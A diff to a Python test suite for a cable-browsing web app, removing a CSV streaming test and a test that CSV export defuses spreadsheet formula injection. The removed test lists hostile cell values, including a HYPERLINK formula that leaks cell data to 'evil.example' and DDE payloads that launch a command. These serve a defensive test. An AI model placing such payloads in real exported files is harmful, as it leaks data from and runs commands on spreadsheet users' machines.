@@ -1,7 +1,5 @@
 """The browse page and its JSON, CSV and Atom forms, through real requests."""
 
-import csv
-import io
 from datetime import UTC, datetime
 from urllib.parse import parse_qsl, urlsplit
 
@@ -187,16 +185,6 @@ def test_merged_tag_redirects_to_its_target(client, browse_sample):
     assert response.status_code == 302 and _params(response["Location"]) == [("tag", "PREL")]
 
 
-def test_csv_streams_every_matching_cable(client, browse_sample, monkeypatch):
-    monkeypatch.setattr("cableroom.views.browse_pages.CSV_CHUNK", 2)
-    response = client.get("/cables.csv?tag=-RS")
-    assert response.status_code == 200 and response.streaming
-    assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
-    assert rows[0] == ["reference_id", "date_time", "origin", "classification", "subject", "url"]
-    assert [row[0] for row in rows[1:]] == ["07STATE6", "07STATE5", "06ASTANA2", "05ASTANA1"]
-
-
 def test_atom_feed_follows_the_same_parameters(client, browse_sample):
     response = client.get("/feed/?tag=PREL")
     assert response.status_code == 200
@@ -274,30 +262,3 @@ def test_too_many_matches_to_rank_come_newest_first(client, browse_sample, monke
     response = client.get("/cables/?q=nuclear")
     assert "too many to rank" in response.content.decode()
     assert _json(client, "q=nuclear")["results"][0]["reference_id"] == "07STATE5"
-
-
-HOSTILE_SUBJECTS = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
-
-
-def test_csv_defuses_spreadsheet_formulas(client, db):
-    for serial, subject in enumerate(HOSTILE_SUBJECTS):
-        cable(f"06EVIL{serial}", subject=subject, origin="=cmd|' /C calc'!A0")
-    cable("06PLAIN9", subject="TALKS ON OIL = PROGRESS", origin="Embassy Astana")
-    response = client.get("/cables.csv")
-    assert response.status_code == 200
-    text = b"".join(response.streaming_content).decode()
-    rows = {row["reference_id"]: row for row in csv.DictReader(io.StringIO(text))}
-    for serial, subject in enumerate(HOSTILE_SUBJECTS):
-        row = rows[f"06EVIL{serial}"]
-        assert row["subject"] == f"'{subject}"
-        assert row["origin"] == "'=cmd|' /C calc'!A0"
-    # Cells that do not start a formula are left as they were.
-    assert rows["06PLAIN9"]["subject"] == "TALKS ON OIL = PROGRESS"
-    assert rows["06PLAIN9"]["origin"] == "Embassy Astana"
